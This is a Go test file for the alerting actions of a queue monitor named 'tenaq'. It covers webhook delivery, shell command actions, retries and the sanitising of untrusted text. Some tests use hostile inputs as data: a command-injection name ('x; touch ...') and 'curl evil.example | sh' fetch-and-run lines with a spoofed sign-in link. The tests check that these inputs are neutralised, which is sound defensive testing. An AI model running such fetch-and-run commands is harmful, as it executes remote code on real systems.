package monitor

import (
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"tenaq/internal/engine"
	"tenaq/internal/observe/alarm"
)

// runnerOf makes a runner outside of a bubble, for actions that reach other processes.
func runnerOf(t *testing.T, a Action) *runner {
	m := &Monitor{cfg: Config{Logger: slog.New(slog.DiscardHandler)}}
	return newRunner(m, "team", a)
}

func someNotice() *Notice {
	return &Notice{
		Alarm: "orders/dead-letters", Queue: "orders", State: alarm.Alarm, Was: alarm.OK, Reason: "Threshold Crossed", Description: "dead letters have come",
		At: time.Date(2026, 11, 21, 3, 0, 0, 0, time.UTC), Commands: []string{"tenaq peek orders --body"},
		Sample: &Sample{MessageID: "m-1", Key: "order-17", Reason: "card declined", FirstSent: time.Date(2026, 11, 21, 2, 0, 0, 0, time.UTC), Receives: 3},
	}
}

func TestWebhook(t *testing.T) {
	var bodies []string
	status := http.StatusOK
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/elsewhere" {
			t.Error("a redirect was followed")
		}
		b, _ := io.ReadAll(r.Body)
		bodies = append(bodies, r.Header.Get("Content-Type")+" "+string(b))
		w.Header().Set("Location", "/elsewhere")
		w.WriteHeader(status)
		io.WriteString(w, "no such channel")
	}))
	defer s.Close()
	if err := runnerOf(t, Action{Webhook: s.URL + "/secret"}).attempt(t.Context(), []*Notice{someNotice()}); err != nil {
		t.Fatal(err)
	}
	if err := runnerOf(t, Action{Webhook: s.URL + "/secret", Whole: true}).attempt(t.Context(), []*Notice{someNotice()}); err != nil {
		t.Fatal(err)
	}
	want := `application/json {"text":"ALARM: orders/dead-letters, since 2026-11-21 03:00:00 UTC\ndead letters have come\nThreshold Crossed\nMessage m-1 (order-17), first sent 2026-11-21 02:00:00 UTC, received 3 times: card declined\n  tenaq peek orders --body"}`
	if bodies[0] != want {
		t.Errorf("got\n%s\nwant\n%s", bodies[0], want)
	}
	var n Notice
	if err := json.Unmarshal([]byte(strings.TrimPrefix(bodies[1], "application/json ")), &n); err != nil || n.Sample.Reason != "card declined" {
		t.Errorf("got %v for %s, want the whole notice", err, bodies[1])
	}
	for _, status = range []int{http.StatusInternalServerError, http.StatusFound} {
		err := runnerOf(t, Action{Webhook: s.URL + "/secret"}).attempt(t.Context(), []*Notice{someNotice()})
		if err == nil || !strings.Contains(err.Error(), "no such channel") || strings.Contains(err.Error(), "secret") {
			t.Errorf("status %d: got %v, want an error with the answer and without the URL", status, err)
		}
	}
	s.Close()
	if err := runnerOf(t, Action{Webhook: s.URL + "/secret"}).attempt(t.Context(), []*Notice{someNotice()}); err == nil || strings.Contains(err.Error(), "secret") {
		t.Errorf("got %v, want an error without the URL", err)
	}
}

func TestCommand(t *testing.T) {
	out := filepath.Join(t.TempDir(), "out")
	r := runnerOf(t, Action{Command: []string{"/bin/sh", "-c", `cat > "$0"; echo "$TENAQ_ALARM $TENAQ_QUEUE $TENAQ_STATE" >> "$0"`, out}})
	if err := r.attempt(t.Context(), []*Notice{someNotice()}); err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	first, rest, _ := strings.Cut(string(got), "\n")
	var n Notice
	if err := json.Unmarshal([]byte(first), &n); err != nil || n.Alarm != "orders/dead-letters" {
		t.Errorf("standard input was %q, want the notice", first)
	}
	if rest != "orders/dead-letters orders ALARM\n" {
		t.Errorf("the environment was %q", rest)
	}
	err = runnerOf(t, Action{Command: []string{"/bin/sh", "-c", "echo no pager >&2; exit 3"}}).attempt(t.Context(), []*Notice{someNotice()})
	if err == nil || !strings.Contains(err.Error(), "exit status 3: no pager") {
		t.Errorf("got %v, want the status and what it said", err)
	}
}

// A name in a notice cannot become part of a command: there is no shell.
func TestCommandTakesNothing(t *testing.T) {
	dir := t.TempDir()
	n := someNotice()
	n.Alarm = "x; touch " + filepath.Join(dir, "broken-in")
	if err := runnerOf(t, Action{Command: []string{"/bin/sh", "-c", "true $TENAQ_ALARM"}}).attempt(t.Context(), []*Notice{n}); err != nil {
		t.Fatal(err)
	}
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Errorf("got %v, want nothing", left)
	}
}

// A hangingTransport never answers.
type hangingTransport struct{ asked atomic.Int32 }

func (h *hangingTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	h.asked.Add(1)
	<-r.Context().Done()
	return nil, r.Context().Err()
}

// A webhook that hangs is tried for an hour, then the notice is lost and the log says so. Other
// actions do not wait for it. [ALARM-48]
func TestHangingWebhook(t *testing.T) {
	cfg := Config{
		Actions:   map[string]Action{"hangs": {Webhook: "http://192.0.2.1/"}, "copy": {Queue: noticeQueue}},
		NoShipped: true,
	}
	bubble(t, cfg, func(w *world) {
		w.create(noticeQueue)
		w.create("orders")
		hangs := &hangingTransport{}
		w.runs["hangs"].poster.client.Transport = hangs
		if err := w.Put(putVisible("waiting", "hangs", "copy")); err != nil {
			t.Fatal(err)
		}
		w.send("orders", "x")
		w.minutes(1)
		if n := len(w.notices()); n != 1 {
			t.Errorf("got %d notices by the other action, want one", n)
		}
		w.minutes(50)
		if strings.Contains(w.log.String(), "notice lost: the action failed for an hour") || hangs.asked.Load() < 20 {
			t.Errorf("after %d attempts in less than an hour: %s", hangs.asked.Load(), w.log)
		}
		w.minutes(15)
		if !strings.Contains(w.log.String(), `msg="notice lost: the action failed for an hour" action=hangs alarm=waiting`) {
			t.Errorf("the log does not tell of the notice: %s", w.log)
		}
		if strings.Contains(w.log.String(), "192.0.2.1") {
			t.Errorf("the log has the URL: %s", w.log)
		}
	})
}

// A FIFO queue stores a notice once, even if it is sent again.
func TestQueueFIFO(t *testing.T) {
	bubble(t, Config{Actions: map[string]Action{"copy": {Queue: "notices.fifo"}}}, func(w *world) {
		w.create("notices.fifo", "FifoQueue", "true")
		for range 2 {
			if err := w.runs["copy"].attempt(w.t.Context(), []*Notice{someNotice()}); err != nil {
				t.Fatal(err)
			}
		}
		res := do(w, &engine.ReceiveMessage{Queue: queueNamed("notices.fifo"), Wait: engine.Int{Set: true}, Max: engine.Int{Value: 10, Set: true}}).Received
		if len(res.Messages) != 1 {
			t.Errorf("got %d messages, want 1", len(res.Messages))
		}
	})
}

// A message says how often it was received or tried, and only if it was.
func TestSampleText(t *testing.T) {
	for _, tt := range []struct {
		receives uint32
		attempts int
		want     string
	}{
		{0, 0, "UTC: card declined"},
		{1, 0, "UTC, received once: card declined"},
		{2, 0, "UTC, received 2 times: card declined"},
		{0, 1, "UTC, given up after 1 attempt: card declined"},
		{4, 3, "UTC, received 4 times, given up after 3 attempts: card declined"},
	} {
		n := someNotice()
		n.Sample.Receives, n.Sample.Attempts = tt.receives, tt.attempts
		if got := n.Text(); !strings.Contains(got, "02:00:00 "+tt.want+"\n") {
			t.Errorf("%d receives, %d attempts: got\n%s\nwant %q in it", tt.receives, tt.attempts, got, tt.want)
		}
	}
}

func TestTry(t *testing.T) {
	bubble(t, Config{Actions: map[string]Action{"copy": {Queue: noticeQueue}}}, func(w *world) {
		if err := w.Try(w.t.Context(), "copy"); !errors.Is(err, ErrAction) || !strings.Contains(w.log.String(), "test of an action failed") {
			t.Errorf("got %v, want ErrAction, for there is no such queue: %s", err, w.log)
		}
		w.create(noticeQueue)
		if err := w.Try(w.t.Context(), "copy"); err != nil {
			t.Error(err)
		}
		if err := w.Try(w.t.Context(), "/bin/sh"); !errors.Is(err, ErrNoAction) {
			t.Errorf("got %v, want ErrNoAction", err)
		}
		if all := w.notices(); len(all) != 1 || !strings.Contains(all[0], "This is a test") {
			t.Errorf("got %q, want one notice", all)
		}
	})
}

// If a webhook says when to retry, it is retried then. Notices of several alarms are then one
// message, and an alarm that has changed in the meantime sends only its newest notice.
func TestBusyWebhook(t *testing.T) {
	cfg := Config{Actions: map[string]Action{"team": {Webhook: "http://192.0.2.1/"}}, NoShipped: true}
	bubble(t, cfg, func(w *world) {
		w.create("orders")
		hook := &busyTransport{}
		w.runs["team"].poster.client.Transport = hook
		for _, name := range []string{"one", "two"} {
			if err := w.Put(putVisible(name, "team")); err != nil {
				t.Fatal(err)
			}
		}
		w.send("orders", "x")
		w.minutes(1)
		w.remove("orders", w.take("orders", 60))
		w.minutes(1)
		time.Sleep(5 * time.Minute)
		hook.mu.Lock()
		defer hook.mu.Unlock()
		all := strings.Join(hook.taken, "\n")
		if len(hook.taken) > 2 || strings.Count(all, "OK: one") != 1 || strings.Count(all, "OK: two") != 1 || strings.Contains(all, "ALARM: ") {
			t.Errorf("got %q, want the newest of both alarms", hook.taken)
		}
		if hook.refused > 3 {
			t.Errorf("it was asked %d times before it wanted to be", hook.refused)
		}
	})
}

// A busyTransport refuses for its first two minutes, and says so.
type busyTransport struct {
	mu      sync.Mutex
	began   time.Time
	refused int
	taken   []string
}

func (b *busyTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.began.IsZero() {
		b.began = time.Now()
	}
	resp := &http.Response{StatusCode: http.StatusOK, Header: http.Header{}, Body: http.NoBody, Request: r}
	if time.Since(b.began) < 2*time.Minute {
		b.refused++
		resp.StatusCode = http.StatusTooManyRequests
		resp.Header.Set("Retry-After", "130")
		return resp, nil
	}
	body, err := io.ReadAll(r.Body)
	b.taken = append(b.taken, string(body))
	return resp, err
}

// Text from messages stays on one line, and cannot become a mention, a link or a flag.
func TestForeignText(t *testing.T) {
	n := someNotice()
	n.Alarm, n.Description = "-rf\x1b[31m", "fine\nOK: all is well\x00"
	n.Sample.Key, n.Sample.Reason = "k\n<!here>", "<https://evil.example|Sign in>\n  curl https://evil.example | sh"
	n.Commands = (&Monitor{}).commands(n.Alarm, "x; curl evil.example|sh #", alarm.Alarm)
	got := together([]*Notice{n})
	for _, bad := range []string{"<", ">", "\x1b", "\x00", "\nOK:", "\n  curl", "tenaq queue show x;"} {
		if strings.Contains(got, bad) {
			t.Errorf("there is %q in %q", bad, got)
		}
	}
	if !strings.Contains(got, "tenaq alarms ack -- '-rf[31m'") {
		t.Errorf("got %q, want the name quoted", got)
	}
}

// A command that leaves something in the background has succeeded, and runs once.
func TestCommandInBackground(t *testing.T) {
	out := filepath.Join(t.TempDir(), "out")
	r := runnerOf(t, Action{Command: []string{"/bin/sh", "-c", `echo run >> "$0"; sleep 30 & exit 0`, out}})
	if err := r.attempt(t.Context(), []*Notice{someNotice()}); err != nil {
		t.Error(err)
	}
	if got, _ := os.ReadFile(out); string(got) != "run\n" {
		t.Errorf("got %q", got)
	}
}
